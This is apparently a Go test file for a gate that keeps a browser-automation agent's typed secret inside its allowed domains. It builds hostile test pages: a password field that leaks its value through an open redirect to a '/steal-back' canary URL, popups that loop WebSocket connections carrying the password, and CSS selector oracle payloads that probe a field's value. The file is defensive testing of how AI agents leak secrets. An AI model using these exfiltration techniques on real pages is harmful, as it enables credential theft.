// go_back into that entry is the agent's navigation, but a redirect of it
// out of the secret's domains is not (the agent named a URL inside them).
func TestSecretGoBackIntoACraftedEntry(t *testing.T) {
	f := startSecretBound(t)
	canary := newRecordingCanary(t, "127.0.0.3:0", nil)
	site, _ := openRedirectSite(t, map[string]string{
		"/c": `<title>c</title><input type=password id=pw oninput="clearTimeout(window.t); const v = this.value; window.t = setTimeout(() => {
  history.replaceState(null, '', '/redir?to=' + encodeURIComponent('` + canary.url + `/steal-back?v=' + encodeURIComponent(v)));
  location.href = '/c2';
}, 700)"><script>addEventListener('unload', () => {});</script>`,
		"/c2": `<title>Signed in</title><p>Welcome. Go back to continue.</p>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/c"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	time.Sleep(1500 * time.Millisecond)
	out, _ := f.call(t, "e2e.snapshot", nil)
	t.Logf("snapshot:\n%s", out)
	out, refused := f.call(t, "e2e.go_back", nil)
	t.Logf("go_back (refused=%v):\n%s", refused, out)
	time.Sleep(500 * time.Millisecond)
	t.Logf("canary saw: %q", canary.all())
	reportLeaks(t, "go_back into a page-crafted entry (open redirect with the value)", canary.leaked(boundSecretValue))
}

// popupSocketDoc is a document for a popup its opener writes: it opens
// WebSockets to ws in a tight loop once the opener gave it v.
func popupSocketDoc(ws, tag string) string {
	return `'<title>popup</title><script>setInterval(() => { if (window.v) try { new WebSocket(\'` + ws + `/` + tag + `?v=\' + encodeURIComponent(window.v)); } catch (e) {} }, 3);<\/script>'`
}

// TestSecretPopupOpenedAsThePageEmpties: the page opens a popup with the
// value as the gate empties it; the popups are closed again once the page
// is gone, before the tab leaves, so nothing of the popup's gets out.
func TestSecretPopupOpenedAsThePageEmpties(t *testing.T) {
	f := startSecretBound(t)
	canary := newRecordingCanary(t, "127.0.0.3:0", nil)
	ws := strings.Replace(canary.url, "http", "ws", 1)
	site, _ := openRedirectSite(t, map[string]string{
		"/a": `<title>a</title><input type=password id=pw>
<script>
navigation.addEventListener('navigate', e => {
  if (window.done) return;
  window.done = 1;
  const w = window.open('', 'p2');
  if (!w) { return; }
  w.document.write(` + popupSocketDoc(ws, "ws-popup-late") + `); w.document.close();
  w.v = document.getElementById('pw').value;
});
</script>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/a"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	out, refused := f.call(t, "e2e.navigate", map[string]any{"url": canary.url + "/after"})
	t.Logf("navigate away (refused=%v):\n%s", refused, out)
	time.Sleep(time.Second)
	out, _ = f.call(t, "e2e.snapshot", nil)
	t.Logf("snapshot:\n%s", out)
	t.Logf("canary saw %d, ws %d", len(canary.all()), len(canary.hits("ws-popup-late")))
	reportLeaks(t, "popup opened during the emptying, WebSocket loop", canary.leaked(boundSecretValue))
}

// TestSecretPopupAsAClickLeaves: a popup holding the value sends
// WebSockets in a loop while the page tries to leave by a click; the
// click is refused and the popup's connections are held to the secret's
// domains.
func TestSecretPopupAsAClickLeaves(t *testing.T) {
	f := startSecretBound(t)
	canary := newRecordingCanary(t, "127.0.0.3:0", nil)
	ws := strings.Replace(canary.url, "http", "ws", 1)
	site, _ := openRedirectSite(t, map[string]string{
		"/pop": `<title>pop</title><button id=o onclick="window.w = window.open('', 'p'); w.document.write(` + html.EscapeString(popupSocketDoc(ws, "ws-popup")) + `); w.document.close();">Open notes</button>
<input type=password id=pw oninput="if (window.w) w.v = this.value"><a id=l href="` + canary.url + `/help">Help</a>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/pop"})
	out := f.mustAllow(t, "e2e.click", map[string]any{"selector": "#o"})
	t.Logf("click open popup:\n%s", out)
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	time.Sleep(300 * time.Millisecond)
	out, refused := f.call(t, "e2e.click", map[string]any{"selector": "#l"})
	t.Logf("click away (refused=%v):\n%s", refused, out)
	time.Sleep(time.Second)
	t.Logf("canary saw %d, ws %d", len(canary.all()), len(canary.hits("ws-popup")))
	reportLeaks(t, "popup WebSocket loop as the tab leaves by a judged click", canary.leaked(boundSecretValue))
}

// TestNoSelectorOracleVariants: selector spellings that test a value
// (:is(), the i flag, :not(), *=, $=, :has lists) and wait_for's text are
// refused on every page of the secret's domains, the later ones too.
func TestNoSelectorOracleVariants(t *testing.T) {
	f := startSecretBound(t)
	site, _ := openRedirectSite(t, map[string]string{
		"/login": `<title>Sign in</title><form method=post action="/echo"><input type=password id=pw name=pw><button id=go>Sign in</button></form>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/login"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
	f.mustAllow(t, "e2e.submit_form", map[string]any{"selector": "#go"})
	allowed := 0
	for _, c := range []struct {
		tool string
		args map[string]any
	}{
		{"e2e.wait_for", map[string]any{"selector": `#h:is([value^="Zq8"])`, "timeout_ms": 100}},
		{"e2e.wait_for", map[string]any{"selector": `#h[value^=Zq8 i]`, "timeout_ms": 100}},
		{"e2e.click", map[string]any{"selector": `input:not([value^="Zq9"])`}},
		{"e2e.snapshot", map[string]any{"selector": `#h[value*="Lm2"]`}},
		{"e2e.extract_html", map[string]any{"selector": `#h:has(+ [value^=Z]), #h[value$="Kp4"]`}},
		{"e2e.wait_for", map[string]any{"text": "Zq8-Lm", "timeout_ms": 100}},
		{"e2e.wait_for", map[string]any{"selector": `#h:placeholder-shown`, "timeout_ms": 100}},
	} {
		out, refused := f.call(t, c.tool, c.args)
		if !refused {
			allowed++
		}
		t.Logf("%s %v refused=%v: %s", c.tool, c.args, refused, firstLine(out))
	}
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/other"})
	out, refused := f.call(t, "e2e.wait_for", map[string]any{"text": "x", "timeout_ms": 100})
	t.Logf("other page of the domain, wait_for text refused=%v: %s", refused, firstLine(out))
	if allowed > 1 || !refused {
		t.Errorf("LEAK oracle rule: %d value tests allowed", allowed)
	}
}
